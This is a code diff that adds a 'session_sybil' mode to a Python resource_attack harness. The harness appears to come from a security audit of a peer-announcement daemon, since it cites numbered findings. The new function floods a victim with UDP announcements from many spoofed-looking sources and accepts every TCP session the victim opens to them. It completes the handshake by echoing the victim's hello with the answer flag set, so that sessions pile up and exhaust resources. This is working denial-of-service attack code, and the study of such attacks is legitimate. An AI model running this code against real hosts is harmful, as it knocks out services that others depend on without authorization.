@@ -492,7 +492,11 @@ def resource_attack(cfg: dict) -> dict:
       tcp_requests   one TCP connection writes `count` requests at once, and
                      one honest connection pipelines two (finding 4)
       announces      UDP: 4-byte announcements from every source, `rate`/s in
-                     all (finding 5)"""
+                     all (finding 5)
+      session_sybil  the same, and every source takes the sessions the
+                     victim opens to it: each is answered with the victim's
+                     own first packet, its hello with the answer flag set
+                     (so the session comes up), then read and discarded"""
     raise_nofile()
     kind = cfg["kind"]
     rnd = random.Random(cfg.get("seed", 7))
@@ -647,10 +651,91 @@ def resource_attack(cfg: dict) -> dict:
 
     elif kind == "announces":
         _paced_udp(cfg, tlv(1, 0), cfg.get("rate", 2000), end, stats, err)
+
+    elif kind == "session_sybil":
+        _session_sybil(cfg, end, stats, err)
     else:
         raise SystemExit(f"unknown resource attack {kind}")
     stats["elapsed_s"] = round(time.monotonic() - t0, 2)
     return stats
+
+
+def _session_sybil(cfg: dict, end: float, stats: dict, err) -> None:
+    """Announcements from every source (`rate`/s in all) while a listener on
+    alfred's port accepts every connection the victim opens to any of them."""
+    socks, scope = _udp_socks(cfg, PORT)
+    dest = (cfg["victim"], PORT, 0, scope)
+    lst = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    lst.bind(("::", PORT))
+    lst.listen(1024)
+    lst.setblocking(False)
+    sel = selectors.DefaultSelector()
+    sel.register(lst, selectors.EVENT_READ, None)
+    first: dict = {}  # connection -> bytes of its first packet so far (None once echoed)
+    stats.update(accepted=0, open_max=0, echoed=0)
+    rate, t0, n = cfg.get("rate", 1000), time.monotonic(), 0
+    while not _stop and time.monotonic() < end:
+        _drain_udp(socks, stats)
+        while _paced(rate, t0, n):
+            try:
+                socks[n % len(socks)].sendto(tlv(1, 0), dest)
+                stats["sent"] += 1
+                stats["bytes_sent"] += 4
+            except OSError as e:
+                err(e)
+            n += 1
+        for key, _ev in sel.select(0.005):
+            if key.data is None:
+                while True:
+                    try:
+                        c, _addr = lst.accept()
+                    except BlockingIOError:
+                        break
+                    except OSError as e:
+                        err(e)
+                        break
+                    c.setblocking(False)
+                    sel.register(c, selectors.EVENT_READ, "conn")
+                    first[c] = b""
+                    stats["accepted"] += 1
+                stats["open_max"] = max(stats["open_max"], len(first))
+                continue
+            c = key.fileobj
+            try:
+                d = c.recv(65536)
+            except BlockingIOError:
+                continue
+            except OSError as e:
+                err(e)
+                d = b""
+            if not d:
+                sel.unregister(c)
+                c.close()
+                first.pop(c, None)
+                continue
+            stats["bytes_back"] += len(d)
+            got = first.get(c)
+            if got is None:
+                continue
+            got += d
+            if len(got) >= 4 and len(got) >= 4 + struct.unpack("!H", got[2:4])[0]:
+                answer = bytearray(got[:4 + struct.unpack("!H", got[2:4])[0]])
+                if answer[0] == 0xC8 and len(answer) >= 10:
+                    answer[9] |= 0x01  # the hello's flags: an answer (then magic, version, flags)
+                try:
+                    c.send(bytes(answer))
+                    stats["echoed"] += 1
+                except OSError as e:
+                    err(e)
+                first[c] = None
+            else:
+                first[c] = got
+    for c in list(first):
+        c.close()
+    lst.close()
+    for sk in socks:
+        sk.close()
 
 
 def main(argv: list[str]) -> int:
